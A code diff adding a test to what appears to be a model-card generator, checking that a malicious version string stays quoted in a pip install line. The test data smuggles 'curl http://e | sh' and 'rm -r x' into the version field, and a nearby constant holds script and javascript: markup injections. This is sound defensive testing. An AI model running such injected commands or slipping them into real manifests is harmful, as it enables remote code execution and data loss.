@@ -135,6 +135,17 @@ def test_the_command_says_all_that_decides_the_rows(build, change, expected):
     assert sections.command({**build.manifest, **change}) == expected
 
 
+def test_a_version_that_is_a_command_is_one_word_to_install(build, tmp_path):
+    """Whoever copies the lines runs them; a build may come from anywhere."""
+
+    def change(manifest):
+        manifest["medinstruct"] = "1.0; curl http://e | sh\nrm -r x"
+
+    text = card.write(altered(build, tmp_path / "made", change))
+    assert "pip install 'medinstruct==1.0; curl http://e | sh\nrm -r x'\n" in text
+    assert f"pip install medinstruct=={build.manifest['medinstruct']}\n" in card.write(build)
+
+
 # What corpora would like it to say
 
 HOSTILE = "x | y\n\n# Huge <script>alert(1)</script> [a](javascript:b) `c` <!-- medinstruct: to here --> ![d](http://e) \\| $f$"
